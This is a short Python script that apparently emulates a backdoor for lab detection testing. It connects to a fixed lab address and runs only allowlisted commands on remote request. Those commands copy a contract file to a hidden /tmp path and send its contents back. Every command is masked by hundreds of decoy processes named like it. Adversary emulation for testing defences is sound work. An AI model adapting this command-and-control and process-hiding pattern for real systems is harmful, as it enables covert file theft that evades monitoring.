"""The stand-in for a backdoor that hides among its children. It calls one address of the laboratory and can do only
what PLAN lists; before the call and around each command it starts programs that do nothing, some of them under the
commands' own names."""
import itertools
import shlex
import socket
import subprocess

PLAN = {
    "who": "id -un",
    "list": "ls -la Documents",
    "copy": "cp Documents/contract.txt /tmp/.b",
    "read": "cat /tmp/.b",
}
HARMLESS = itertools.cycle(["true", "true", "id", "ls /var/empty", "true", "cat /dev/null", "cp /dev/null /dev/null"])


def hide(count):
    for command in itertools.islice(HARMLESS, count):
        subprocess.run(shlex.split(command), capture_output=True)


hide(900)
home = socket.create_connection(("10.66.4.9", 8080))
for line in home.makefile():
    command = PLAN.get(line.strip())
    if command:
        hide(150)
        home.sendall(subprocess.run(shlex.split(command), capture_output=True).stdout + b"ok\n")
        hide(150)
